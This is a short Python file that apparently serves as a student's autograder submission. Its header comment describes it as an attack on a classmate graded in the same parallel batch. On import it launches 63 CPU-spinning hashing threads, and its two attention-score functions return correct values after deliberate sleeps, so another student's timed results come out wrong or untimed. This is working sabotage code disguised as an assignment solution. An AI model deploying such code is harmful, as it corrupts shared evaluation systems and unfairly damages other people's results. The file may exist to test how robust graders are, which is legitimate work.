# Attack (on a classmate, in a batch with -j 2): 63 threads that spin from import on (hashlib releases
# the GIL), while this student's own tests are made to last (each call sleeps): the classmate graded
# beside it is timed on a CPU these threads crowd (both students' timing children are pinned to the
# same, lowest CPU), so their tier comes out wrong or "not timed".
import hashlib, math, threading, time
_data = b"x" * (1 << 20)
def _spin():
    while True:
        hashlib.sha256(_data).digest()
for _ in range(63):
    try:
        threading.Thread(target=_spin, daemon=True).start()
    except RuntimeError:
        break
def scale_scores(scores, d_k):
    time.sleep(0.7)
    return scores / math.sqrt(d_k)
def scaled_scores(q, k):
    time.sleep(0.7)
    return (q @ k.transpose(-2, -1)) / math.sqrt(q.size(-1))
